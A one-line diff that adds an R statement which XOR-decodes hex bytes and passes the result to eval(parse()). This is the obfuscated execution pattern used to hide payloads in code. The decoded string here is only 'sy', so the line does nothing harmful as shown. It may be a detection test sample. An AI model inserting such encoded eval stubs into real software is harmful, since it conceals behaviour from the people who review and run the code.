@@ -1,0 +1,1 @@
+eval(parse(text = rawToChar(xor(charToRaw("\x71\x7b"), as.raw(2)))))
